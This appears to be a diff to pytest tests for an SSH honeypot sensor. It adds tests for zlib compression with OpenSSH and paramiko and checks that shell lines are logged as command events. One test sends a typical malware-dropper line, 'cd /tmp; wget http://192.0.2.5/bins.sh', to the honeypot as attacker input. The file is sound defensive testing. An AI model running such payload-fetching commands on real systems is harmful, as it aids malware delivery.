@@ -340,6 +340,47 @@ def test_openssh_every_algorithm(sensor, opt, alg):
     sensor.wait_event("command", lure__command=f"true {alg}")
 
 
+def test_openssh_compression(sensor):
+    """ssh -C: zlib@openssh.com both ways from the login on (sshd's delayed
+    compression); the client inflates what lure sends and lure what the
+    client sends, over several packets and commands."""
+    plain = ssh_cmd(sensor.port(22), *RIGHT, cmd="cat /proc/cpuinfo; uname -a")
+    assert plain.returncode == 0 and len(plain.stdout) > 500, plain.stderr
+    r = ssh_cmd(sensor.port(22), *RIGHT, "-C", "-v",
+                cmd="cat /proc/cpuinfo; uname -a")
+    assert r.returncode == 0, r.stderr[-2000:]
+    assert b"compression: zlib@openssh.com" in r.stderr
+    assert b"compress incoming: raw data" in r.stderr  # it was used
+    assert r.stdout == plain.stdout
+    sensor.wait_event("command", lure__command="cat /proc/cpuinfo; uname -a")
+
+
+def test_paramiko_compression_shell(sensor):
+    """paramiko compresses with Z_FULL_FLUSH (OpenSSH: Z_PARTIAL_FLUSH): a
+    shell session of several lines, each one event."""
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
+              password=RIGHT[1], look_for_keys=False, allow_agent=False,
+              timeout=10, compress=True)
+    t = c.get_transport()
+    assert t.remote_compression == "zlib@openssh.com"
+    ch = c.invoke_shell()
+    ch.settimeout(5)
+    buf = b""
+    while not buf.endswith(b"# "):
+        buf += ch.recv(1024)
+    for i in range(3):
+        ch.sendall(f"echo zlib-{i}-{'x' * 300}\r".encode())
+        sensor.wait_event("command", lure__command=f"echo zlib-{i}-{'x' * 300}")
+    buf = b""
+    while b"zlib-2-" + b"x" * 300 + b"\r\n" not in buf:
+        buf += ch.recv(4096)
+    ch.sendall(b"exit 0\r")
+    assert ch.recv_exit_status() == 0
+    c.close()
+
+
 # --- paramiko ---------------------------------------------------------------
 
 def test_paramiko_password_and_publickey(sensor, tmp_path):
@@ -366,10 +407,11 @@ def test_paramiko_password_and_publickey(sensor, tmp_path):
     c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
     c.connect("127.0.0.1", port, username="admin", password="admin",
               look_for_keys=False, allow_agent=False, timeout=10)
-    _, out, _ = c.exec_command("cat /proc/cpuinfo")
+    _, out, _ = c.exec_command("echo ok")
+    assert out.read() == b"ok\n"  # the fake shell answers (src/shell.c)
     assert out.channel.recv_exit_status() == 0
     c.close()
-    sensor.wait_event("command", lure__command="cat /proc/cpuinfo")
+    sensor.wait_event("command", lure__command="echo ok")
 
 
 def make_key(tmp_path):
@@ -501,7 +543,8 @@ def test_shell_lines_are_commands(sensor):
     ch.sendall(b"cd /tmp; wget http://192.0.2.5/bins.sh\r")
     sensor.wait_event("command",
                       lure__command="cd /tmp; wget http://192.0.2.5/bins.sh")
-    ch.sendall(b"exit\r")
+    # bash's "exit" keeps $? (wget failed): "exit 0" ends it cleanly
+    ch.sendall(b"exit 0\r")
     assert ch.recv_exit_status() == 0
     c.close()
 
